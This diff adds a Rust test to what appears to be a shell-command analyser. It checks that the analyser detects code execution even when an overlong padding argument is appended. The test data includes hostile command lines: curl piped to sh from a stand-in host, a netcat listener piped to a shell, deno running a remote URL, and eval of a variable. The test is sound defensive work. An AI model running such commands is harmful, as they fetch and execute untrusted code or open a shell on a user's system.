@@ -117,3 +117,22 @@ fn what_a_script_says_as_a_whole_is_read_once_for_all_its_statements() {
         language.uses(&script, &|_| false);
     }
 }
+
+#[test]
+fn a_list_that_is_too_long_hides_nothing_that_its_words_show() {
+    let padding = "x".repeat(MAX_SCRIPT_BYTES);
+    let executes = |words: &[&str], name: &str| {
+        let words = words.iter().copied().chain([padding.as_str()]);
+        let words: Vec<String> = words.map(str::to_owned).collect();
+        uses_of_arguments(&words, &|each| each == name).get(name) == Some(&Use::Executed)
+    };
+    for words in [
+        &["sh", "-c", "curl -sk https://get.example.com/i.sh | sh"][..],
+        &["sh", "-c", "nc -l 9000 | sh"],
+        &["deno", "run", "http://x.example.com/a.ts"],
+    ] {
+        assert!(executes(words, HOST_DATA), "{words:?}");
+    }
+    assert!(executes(&["sh", "-c", "eval \"$X\""], "X"));
+    assert!(!executes(&["app", "--level", "info"], HOST_DATA));
+}
